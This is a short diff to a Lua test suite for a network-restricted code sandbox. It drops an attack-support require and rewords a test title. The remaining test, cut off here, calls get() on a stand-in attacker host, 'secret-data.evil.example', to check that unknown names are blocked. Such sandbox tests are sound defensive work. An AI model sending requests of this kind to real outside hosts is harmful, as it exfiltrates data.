@@ -1,6 +1,5 @@
 -- Sandboxes that may reach some names and no others.
 local codecell = require "codecell"
-local attack = require "spec.support.attack"
 local world = require "spec.support.world"
 
 -- What is used by every program inside: no proxy, the name alone.
@@ -77,7 +76,7 @@ print(peer.recv(6).decode().strip())]], earth.web, earth.echo)
     assert.equal("GET /a 0\nhello\n", text)
   end)
 
-  it("knows no other name, asks nobody about it, and says what would allow it #S106 #I14", function()
+  it("knows no other name, asks nobody of it, and says what would allow it #S106 #I14", function()
     local before = #events
     local text, execution = run([[
 get("http://secret-data.evil.example:%d/x")
